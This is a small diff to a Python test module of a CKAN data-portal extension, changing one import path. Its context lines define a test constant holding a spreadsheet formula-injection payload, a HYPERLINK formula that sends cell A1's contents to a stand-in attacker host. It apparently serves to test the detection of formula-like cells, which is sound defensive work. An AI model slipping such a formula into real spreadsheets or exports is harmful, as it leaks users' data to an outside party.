@@ -15,7 +15,7 @@ import pytest
 from ckanext.sektoral.documents import compile as compile_mod
 from ckanext.sektoral.core import datalist as dl
 from ckanext.sektoral.core.cells import is_formula_like
-from tests.workflow.test_datalist import HEADER, ROWS, make_csv, make_xlsx, parse
+from tests.core.test_datalist import HEADER, ROWS, make_csv, make_xlsx, parse
 
 EVIL = '=HYPERLINK("http://evil.example/?"&A1,"Klik")'
 
